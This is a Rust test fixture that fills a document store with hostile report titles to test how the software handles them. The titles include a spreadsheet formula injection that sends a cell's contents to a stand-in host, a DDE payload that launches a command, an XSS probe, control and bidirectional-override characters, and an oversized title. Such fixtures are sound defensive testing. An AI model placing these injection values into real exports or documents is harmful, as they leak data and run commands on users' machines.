//! A case that hostile pages made.
#![allow(dead_code, reason = "each test binary uses a part of it")]

#[path = "../../../store/tests/common/mod.rs"]
mod drafts;

use drafts::draft;
use store::Case;
use tempfile::TempDir;

/// What a title may hold.
pub const TITLES: &[&str] = &[
    "=HYPERLINK(\"http://x.example/?\"&A1,\"Bridge closed\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "two\nlines, a \"quotation\" and a , comma",
    "NUL\0 and escape \u{1b}[31m",
    "right \u{202e}to left",
    "جسر قشير مغلق \u{200f}(بيان)",
    "＝1+1",
    "<script>alert(1)</script> | *bold* [link](http://x.example) ]]> &amp;",
];

/// A case with one report for each of [`TITLES`], and one whose title is a million letters long.
pub fn hostile_case() -> (TempDir, Case) {
    let folder = TempDir::new().expect("a temporary folder");
    let case = Case::create_or_open(folder.path().join("hostile.whosaid")).expect("it is made");
    let long = "long ".repeat(200_000);
    let titles = TITLES.iter().copied().chain([long.as_str()]);
    let readings: Vec<_> = titles
        .enumerate()
        .map(|(at, title)| {
            let body = "The mayor said: “=1+1 is no formula.”";
            draft(&format!("{at}.txt"), &format!("{title}\n\n{body}\n"))
                .title(title)
                .says("The mayor", "said", "“=1+1 is no formula.”")
                .done()
        })
        .collect();
    case.write(&readings).expect("it is stored");
    (folder, case)
}
